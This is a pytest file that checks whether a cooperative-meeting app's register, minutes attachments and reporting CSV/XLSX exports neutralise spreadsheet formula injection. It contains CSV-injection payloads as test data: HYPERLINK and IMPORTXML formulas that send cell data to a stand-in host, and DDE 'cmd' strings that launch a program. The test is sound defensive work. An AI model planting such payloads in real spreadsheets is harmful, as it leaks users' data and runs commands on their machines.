"""No live formula in any export (issue 10 point 7): member names and a decision carrying text a
spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR, full-width ``＝ ＋ － ＠``) come out
inert in the register's CSV and XLSX, in the CSV files attached inside the berita acara, and in
the reporting pack's CSV, read back as a spreadsheet user's tools would read them."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from assembly.domain.spreadsheet import FORMULA_START, inert
from tests.services.voting_fixtures import opened_hall

# A payload per dangerous start, as an attacker would type it into a name or a decision.
PAYLOADS = {
    "=": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "＝": "＝1+1",
    "＋": "＋1+1",
    "－": "－1+1",
    "＠": "＠SUM(1,1)",
}
DECISION = '=IMPORTXML(CONCAT("http://contoh.invalid/",A2),"//a")'


def test_the_rule_covers_every_start_and_leaves_plain_text() -> None:
    assert set(PAYLOADS) == set(FORMULA_START)
    for payload in PAYLOADS.values():
        assert inert(payload) == "'" + payload
    for plain in ("Siti Aminah", "Jl. Merdeka No. 10", "'=sudah", " =1", ""):
        assert inert(plain) == plain


@pytest.fixture
def hall(cooperative: Any, db_path: Path) -> Any:
    """An opened meeting whose first members carry the payloads as names."""
    hall = opened_hall(cooperative, db_path)
    numbers = sorted(hall.ids)
    hall.stored = set()
    for number, payload in zip(numbers, PAYLOADS.values(), strict=False):
        member = cooperative.register.member(hall.ids[number])
        saved, _c = cooperative.register.save(replace(member, name=f"{payload} {number}"))
        hall.stored.add(saved.name)
    # The register trims a leading tab or CR off a name; every other start is kept as typed.
    assert {n for n in hall.stored if n.startswith(FORMULA_START)} == hall.stored
    assert len(hall.stored) == len(PAYLOADS)
    cooperative.decisions.record_consensus(hall.meeting_id, hall.items[0], DECISION)
    return hall


def _names_in(rows: list[list[str]], column: int) -> set[str]:
    return {row[column] for row in rows[1:]}


def _expected(hall: Any) -> set[str]:
    return {"'" + name for name in hall.stored}


def _assert_inert(cells: set[str]) -> None:
    """No cell starts a formula."""
    for cell in cells:
        assert not cell.startswith(FORMULA_START), repr(cell)


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_register_exports_are_inert(hall: Any, tmp_path: Path) -> None:
    services = hall.services
    services.exporter.export(tmp_path / "daftar.csv")
    rows = _rows((tmp_path / "daftar.csv").read_bytes())
    names = _names_in(rows, 1)
    assert {n for n in names if n.startswith("'")} == _expected(hall)
    _assert_inert(names)

    services.exporter.export(tmp_path / "daftar.xlsx")
    sheet = load_workbook(tmp_path / "daftar.xlsx").active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula cell ("f")
    values = {str(c.value) for c in cells}
    assert {v for v in values if v.startswith("'")} == _expected(hall)
    _assert_inert(values)


def test_the_berita_acara_attachments_and_the_pack_are_inert(hall: Any, tmp_path: Path) -> None:
    services = hall.services
    services.meetings.close(hall.meeting_id)
    pdf = tmp_path / "berita-acara.pdf"
    services.minutes.export(hall.meeting_id, pdf)
    attached = PdfReader(pdf).attachments
    attendance = _rows(attached["daftar_hadir.csv"][0])
    name_column = attendance[0].index("nama")
    names = _names_in(attendance, name_column)
    present = {n for n in names if n.startswith("'")}
    assert len(present) >= 6 and present <= _expected(hall)
    _assert_inert(names)
    decisions = _rows(attached["keputusan.csv"][0])
    column = decisions[0].index("keputusan")
    assert "'" + DECISION in _names_in(decisions, column)
    for row in decisions[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), repr(cell)

    pack = services.reporting.write(hall.meeting_id, tmp_path / "paket")
    packed = _rows((pack.folder / "keputusan.csv").read_bytes())
    assert "'" + DECISION in _names_in(packed, column)
    assert packed == decisions
